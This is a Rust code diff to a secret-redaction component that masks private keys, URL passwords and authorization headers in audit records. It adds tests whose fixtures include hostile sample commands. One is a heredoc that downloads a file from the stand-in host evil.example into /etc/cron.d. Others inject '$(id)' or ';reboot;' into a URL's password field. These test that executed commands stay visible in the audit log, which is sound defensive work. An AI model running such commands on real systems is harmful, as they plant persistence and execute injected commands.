@@ -281,14 +281,15 @@ const VALUE_RULES: [(&str, &str); 9] = [
     // a key (see [`pem_body`]), so text between two marker lines that is not a key
     // (commands) stays.
     (
-        r"(-----BEGIN [A-Z0-9 ]*PRIVATE KEY(?: BLOCK)?-----)([A-Za-z0-9+/=\s\\:,.-]+?)(-----END [A-Z0-9 ]*PRIVATE KEY(?: BLOCK)?-----)",
+        r"(-----BEGIN [A-Z0-9 ]*PRIVATE KEY(?: BLOCK)?-----)((?:[A-Za-z0-9+/=\s\\:,.]|-[A-Za-z0-9])+?)(-----END [A-Z0-9 ]*PRIVATE KEY(?: BLOCK)?-----)",
         "",
     ),
     // Credentials in a URL: scheme://user:password@host, up to the last `@` of the
-    // authority (a password may hold `&`, `(`, `'`, `$`, even `@`), but never `;`, a command
-    // substitution (`$(`, `${`, a backtick) or a pipe, which stay on record.
+    // authority (a password may hold `&`, `(`, `)`, `$`, even `@`), but never `;`, `'`, `,`,
+    // a command substitution (`$(`, `${`, a backtick) or a pipe, which stay on record (and
+    // `host:8080','owner':'bob@…` is no password).
     (
-        r#"(://[^/?#\s:@]*):(?:[^/?#\s$|;<>`{}"]|\$[^({/?#\s;])+@"#,
+        r#"(://[^/?#\s:@]*):(?:[^/?#\s$|;<>`{}"',]|\$[^({/?#\s;|<>`"',])+@"#,
         "$1:[REDACTED]@",
     ),
     // An `Authorization` header value, whatever its scheme (Bearer, Basic, Token, …).
@@ -341,17 +342,24 @@ const PEM_RULE: usize = 0;
 /// PEM whose body decodes, or a PEM block of one DER structure.
 fn pem_body(caps: &regex::Captures<'_>) -> String {
     use x509_parser::der_parser;
-    let block = caps[0].replace("\\n", "\n").replace("\\r", "");
+    let body = caps[2].replace("\\n", "\n").replace("\\r", "");
     let label = &caps[1];
     let key = if label.contains("OPENSSH") {
-        armoured_body(&block).is_some_and(|b| b.starts_with(b"openssh-key-v1\0"))
-    } else if label.contains("PGP") || block.contains("Proc-Type:") {
-        armoured_body(&block).is_some_and(|b| b.len() >= 32)
+        armoured_body(&body).is_some_and(|b| b.starts_with(b"openssh-key-v1\0"))
+    } else if label.contains("PGP") {
+        // A secret-key packet first (old or new packet format).
+        armoured_body(&body).is_some_and(|b| b.len() >= 32 && matches!(b[0], 0x94..=0x97 | 0xC5))
+    } else if body.contains("Proc-Type:") {
+        armoured_body(&body).is_some_and(|b| b.len() >= 64)
+    } else if body.contains(':') {
+        // A plain PEM key has no header lines.
+        false
     } else {
-        pem::parse(block).is_ok_and(|p| {
-            der_parser::parse_der(p.contents()).is_ok_and(|(rest, der)| {
-                rest.is_empty() && der.header.tag() == der_parser::asn1_rs::Tag::Sequence
-            })
+        armoured_body(&body).is_some_and(|der| {
+            der.len() >= 64
+                && der_parser::parse_der(&der).is_ok_and(|(rest, der)| {
+                    rest.is_empty() && der.header.tag() == der_parser::asn1_rs::Tag::Sequence
+                })
         })
     };
     if key {
@@ -361,21 +369,29 @@ fn pem_body(caps: &regex::Captures<'_>) -> String {
     }
 }
 
-/// The decoded body of an armoured block (between its marker lines): header lines
-/// (`Name: value`, up to a blank line) and a PGP checksum line (`=XXXX`) left out; `None`
-/// unless the rest is base64.
-fn armoured_body(block: &str) -> Option<Vec<u8>> {
+/// The decoded body of an armoured block (what is between its marker lines): a leading run
+/// of header lines (`Name: value`, then a blank line) and a PGP checksum line (`=XXXX`) left
+/// out; `None` unless all the rest, its whitespace removed, is base64 (a line of anything
+/// else — a command — is no key's).
+fn armoured_body(body: &str) -> Option<Vec<u8>> {
     use base64::Engine as _;
-    let lines: Vec<&str> = block.lines().map(str::trim).collect();
-    let inner = lines.get(1..lines.len().checked_sub(1)?)?;
-    let text: String = inner
-        .iter()
-        .filter(|l| {
-            let header = l.contains(':');
-            let checksum = l.starts_with('=') && l.len() == 5;
-            !header && !checksum
+    let header = |l: &&str| {
+        l.split_once(": ").is_some_and(|(name, _)| {
+            !name.is_empty() && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
         })
-        .copied()
+    };
+    let mut lines = body.lines().map(str::trim).peekable();
+    while lines.next_if(|l| l.is_empty()).is_some() {}
+    let mut headers = false;
+    while lines.next_if(header).is_some() {
+        headers = true;
+    }
+    if headers && lines.next_if(|l| l.is_empty()).is_none() {
+        return None;
+    }
+    let text: String = lines
+        .filter(|l| !(l.starts_with('=') && l.len() == 5))
+        .flat_map(|l| l.chars().filter(|c| !c.is_whitespace()))
         .collect();
     base64::engine::general_purpose::STANDARD.decode(text).ok()
 }
@@ -506,10 +522,11 @@ impl Render<'_> {
             } else if secret_shaped {
                 // A key holding a secret of a known shape (a URL with its password).
                 self.redacted = true;
+                // Numbered: two keys may be redacted to the same text.
                 let shown = if redacted_key.len() > self.cut.bytes {
                     cut_text(&redacted_key, self.cut.bytes, Some(i))
                 } else {
-                    redacted_key.into_owned()
+                    format!("{redacted_key} [key {i}]")
                 };
                 json_into(&mut self.out, &shown);
             } else if k.len() > self.cut.bytes {
@@ -541,19 +558,28 @@ impl Render<'_> {
     }
 
     fn array(&mut self, a: &[Value]) {
-        // A `["Authorization", "Basic …"]` pair (headers as a list of pairs).
-        let pair_secret = a.len() == 2
-            && a[0].as_str().is_some_and(|name| self.r.secret(name))
-            && !matches!(a[1], Value::Object(_) | Value::Array(_) | Value::Null);
+        // A list of `[name, value]` pairs (headers, variables): the value of one whose name
+        // is a redacted key is the secret (a lone two-item array is not taken for a pair:
+        // `["secret", "list"]` is a command's arguments).
+        let pairs = a.iter().all(|v| {
+            v.as_array()
+                .is_some_and(|p| p.len() == 2 && p[0].is_string() && p[1].is_string())
+        });
         self.depth += 1;
         self.out.push(b'[');
         for (i, v) in a.iter().take(self.cut.items).enumerate() {
             if i > 0 {
                 self.out.push(b',');
             }
-            if pair_secret && i == 1 {
+            let secret_pair = pairs
+                .then(|| v.as_array().and_then(|p| p[0].as_str()))
+                .flatten()
+                .filter(|name| self.r.secret(name));
+            if let Some(name) = secret_pair {
                 self.redacted = true;
-                self.out.extend_from_slice(b"\"[REDACTED]\"");
+                self.out.push(b'[');
+                json_into(&mut self.out, name);
+                self.out.extend_from_slice(b",\"[REDACTED]\"]");
             } else {
                 self.value(v);
             }
@@ -3332,9 +3358,12 @@ mod tests {
             b64(&openssh)
         );
         let body = b64(&[9u8; 120]);
+        let mut packet = vec![0x95u8];
+        packet.extend_from_slice(&[9u8; 119]);
         let pgp = format!(
-            "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n{body}\n=AbCd\n\
-             -----END PGP PRIVATE KEY BLOCK-----"
+            "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: GnuPG v2\n\n{}\n=AbCd\n\
+             -----END PGP PRIVATE KEY BLOCK-----",
+            b64(&packet)
         );
         let encrypted = format!(
             "-----BEGIN RSA PRIVATE KEY-----\nProc-Type: 4,ENCRYPTED\n\
@@ -3343,10 +3372,17 @@ mod tests {
         );
         let r = Redactor::new(&RawAudit::default());
         let secret_part = body.lines().next().unwrap_or_default().to_owned();
+        let pgp_part = pgp.lines().nth(3).unwrap_or_default().to_owned();
         let ssh_part = openssh.lines().nth(1).unwrap_or_default().to_owned();
+        let one_line_ssh = openssh.replace('\n', " ");
+        let pem = rcgen::KeyPair::generate().unwrap().serialize_pem();
+        let pem_part = pem.lines().nth(1).unwrap_or_default().to_owned();
+        let quoted_then_key = format!("must start with -----BEGIN PRIVATE KEY-----.\nMine:\n{pem}");
         let cases = [
             (json!({"content": openssh}), ssh_part.as_str()),
-            (json!({"content": pgp}), secret_part.as_str()),
+            (json!({"content": one_line_ssh}), ssh_part.as_str()),
+            (json!({"content": quoted_then_key}), pem_part.as_str()),
+            (json!({"content": pgp}), pgp_part.as_str()),
             (json!({"content": encrypted}), secret_part.as_str()),
             (
                 json!({"dsn": "postgres://admin:Tr0ub4dor&3@db:5432/app"}),
@@ -3391,6 +3427,38 @@ mod tests {
             assert!(!text.contains(secret), "{secret} in {text}");
             assert!(text.contains("[REDACTED]"), "{text}");
         }
+        // Two keys redacted alike stay two members.
+        let two = r.redact(&json!({
+            "ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa": 1,
+            "ghp_bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb": 2,
+        }));
+        let parsed: Value = serde_json::from_str(&two).unwrap();
+        assert_eq!(parsed.as_object().map(|o| o.len()), Some(2), "{two}");
+        // Not secrets: a command's two arguments, a host's port before a later `@`.
+        for (v, kept) in [
+            (json!({"args": ["secret", "list"]}), "list"),
+            (
+                json!({"text": "{'url':'http://localhost:8080','owner':'bob@example.com'}"}),
+                "8080",
+            ),
+        ] {
+            let text = r.redact(&v);
+            assert!(
+                text.contains(kept) && !text.contains("[REDACTED]"),
+                "{text}"
+            );
+        }
+        // Commands between key markers stay, whatever base64 follows them.
+        let heredoc = format!(
+            "bash <<'X'\n-----BEGIN PGP PRIVATE KEY BLOCK-----\n\
+             curl -o /etc/cron.d/x http://evil.example:8080/x\n\n{}\n\
+             -----END PGP PRIVATE KEY BLOCK-----\nX",
+            b64(&packet)
+        );
+        assert!(
+            r.redact(&json!({ "s": heredoc }))
+                .contains("curl -o /etc/cron.d/x")
+        );
         // What runs stays on record: a command substitution in a URL's password place.
         for cmd in ["curl http://u:$(id)@h/x", "curl http://u:x;reboot;@h/x"] {
             let text = r.redact(&json!({ "cmd": cmd }));
